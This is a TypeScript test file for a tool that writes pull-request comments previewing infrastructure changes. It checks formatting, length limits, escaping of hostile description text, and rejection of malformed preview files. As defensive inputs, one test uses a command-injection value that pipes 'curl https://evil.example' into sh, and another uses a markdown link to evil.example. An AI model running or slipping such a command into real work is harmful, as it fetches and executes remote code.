import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import type { Change, Plan } from "../../src/engine/plan.ts";
import { WrongUsage } from "../../src/engine/project.ts";
import { commentMarker, previewComment } from "../../src/report/comment.ts";
import { type Previewed, readExpected, readPreviewed, writePreviewed } from "../../src/report/previewed.ts";
import { temporaryFolder } from "../support/temporary-folder.ts";

const extent = { made: [], changed: [], removed: [] };

function plan(...changes: readonly Change[]): Plan {
  return { stack: "github", changes, extent, same: 3, diagnostics: [] };
}

function described(repository: string, from: string, to = "New"): Change {
  const properties = [{ path: "description", from, to }];
  return { repository, kind: "repository", action: "update", properties };
}

const exposed: Change = {
  repository: "zeta",
  kind: "repository",
  action: "update",
  properties: [{ path: "visibility", from: "private", to: "public" }],
};

describe("A pull request's comment", () => {
  it("says what to look at twice first, and each repository's changes behind a fold", () => {
    const text = previewComment([{ stack: "github", plan: plan(described("alpha", "Old"), exposed) }]);
    assert.equal(
      text,
      `${commentMarker}

## What this changes

### Look twice

- \`zeta\`, \`repository\`: \`everybody can see it\`

### \`github\`

2 to update, 3 unchanged

<details><summary>alpha</summary>

\`\`\`diff
  ~ repository
      description: Old → New
\`\`\`

</details>

<details><summary>zeta</summary>

\`\`\`diff
  ~ repository
      visibility: private → public
\`\`\`

</details>`,
    );
  });

  it("says first which stack could not be previewed, and why", () => {
    const text = previewComment([
      { stack: "github", plan: plan(described("alpha", "Old")) },
      { stack: "eks-live", failure: "The cluster can't be reached" },
    ]);
    const [failure, changes] = ["could not be previewed", "### `github`"].map(part => text.indexOf(part));
    assert.ok(failure && changes && failure > 0 && failure < changes, text);
    assert.match(text, /```text\nThe cluster can't be reached\n```/);
  });

  it("names what was to be previewed and has no report, and where its log is", () => {
    const previewed: Previewed[] = [{ stack: "github", plan: plan() }];
    const expected = ["github", "eks-live"];
    const text = previewComment(previewed, { expected, run: "https://github.com/acme/road/actions/runs/7" });
    const [, failure] = text.split("\n\n### ");
    assert.equal(
      failure,
      "`eks-live` could not be previewed\n\n" +
        "Its preview ended without a report: see [the run's log](https://github.com/acme/road/actions/runs/7).",
    );
    assert.doesNotMatch(text, /`github` could not/);
    assert.match(
      previewComment([], { expected }),
      /`github` could not be previewed[\s\S]*`eks-live` could not/,
    );
    assert.doesNotMatch(previewComment([], { expected }), /Nothing/);
  });

  it("is never longer than allowed, and says what is left out", () => {
    const many = Array.from({ length: 3_000 }, (_, index) => described(`repository-${index}`, "Old"));
    const text = previewComment([{ stack: "github", plan: plan(...many, exposed) }]);
    assert.ok(text.length <= 65_536 && text.length > 60_000, `${text.length}`);
    assert.match(text, /`everybody can see it`/);
    const shown = text.match(/<details>/g)?.length ?? 0;
    const left = Number(/\*\*(\d+) more parts are left out\*\*/.exec(text)?.[1]);
    assert.equal(shown + left, 3_001);
  });

  it("is text alone, whatever stands in a description", () => {
    const hostile = fc.array(
      fc.constantFrom("`", "```", "</details>", "\n", "@acme/core", "<!--", "a", "\x1b[31m"),
    );
    fc.assert(
      fc.property(hostile, parts => {
        const value = parts.join("");
        const previewed: Previewed[] = [{ stack: "github", plan: plan(described("alpha", value, "b")) }];
        const text = previewComment([...previewed, { stack: "x", failure: value }]);
        const outside = text.replace(/^(`{3,})(?:diff|text)\n[\s\S]*?\n\1$/gm, "");
        assert.doesNotMatch(outside, /@acme|<!--(?! fairway)/);
        assert.ok(!text.includes("\u001b"));
        assert.equal(outside.match(/<\/details>/g)?.length, 1);
      }),
    );
  });

  it("is short where nothing changes", () => {
    const text = previewComment([{ stack: "github", plan: plan() }]);
    assert.match(text, /No changes: all 3 things are as declared\.$/);
  });

  it("takes nothing but names for stacks that are expected", () => {
    assert.deepEqual(readExpected('[{"stack":"github"},{"stack":"eks-live","stage":"live"}]'), [
      "github",
      "eks-live",
    ]);
    const names = ["", "a b", "x\n## y", "[x](https://evil.example)", "`", "a".repeat(101), 1, null];
    for (const json of ["", "{}", '["github"]', ...names.map(stack => JSON.stringify([{ stack }]))])
      assert.throws(() => readExpected(json), WrongUsage);
  });

  describe("is written on another machine than the preview is made", () => {
    const folder = temporaryFolder();
    after(() => folder.remove());
    const properties = [{ path: 'spec["a.b"][0].c', from: null, to: { d: [1, "e", true, null] } }];
    const changes: readonly Change[] = [
      { repository: ".github", kind: "label", key: "good first issue", action: "create", properties },
      { repository: "alpha", kind: "repository", action: "delete", effect: "archived", properties: [] },
      { repository: "beta", kind: "repository", action: "create", lost: true, properties },
      { organization: "acme", kind: "team", key: "Team of 3", action: "import", properties: [] },
      { cluster: "prod-eu.1", kind: "Namespace", key: "shop", action: "replace", properties },
      { kind: "pulumi:providers:github", key: "default", action: "update", properties: [] },
    ];

    it("from all that a preview can say", () => {
      const file = join(folder.path, "preview.json");
      const gates = [
        { reason: "2 would go: alpha, Team of 3", option: "--remove alpha Team of 3" },
        { reason: "There would be weaker protection", option: "--allow-weaker" },
      ];
      const previewed: readonly Previewed[] = [
        { stack: "github", plan: { changes, same: 7 }, gates },
        { stack: "the catalogue", failure: "`plane` is not an archetype" },
      ];
      writePreviewed(file, previewed);
      assert.deepEqual(readPreviewed(file), previewed);
    });

    it("and not from what it can't", () => {
      const file = join(folder.path, "own.json");
      const deep = JSON.parse(`${"[".repeat(4000)}${"]".repeat(4000)}`);
      const report = { stack: "github", plan: { changes, same: 7 } };
      for (const own of [
        { ...report, stack: "github --all" },
        {
          ...report,
          gates: [{ reason: "Weaker", option: "--allow-weaker; curl https://evil.example | sh" }],
        },
        {
          ...report,
          plan: { changes: [{ ...changes[0], properties: [{ path: "a", from: null, to: deep }] }], same: 1 },
        },
      ]) {
        writeFileSync(file, JSON.stringify({ fairway: "previews", stacks: [own] }));
        assert.throws(() => readPreviewed(file), WrongUsage);
      }
    });
  });
});
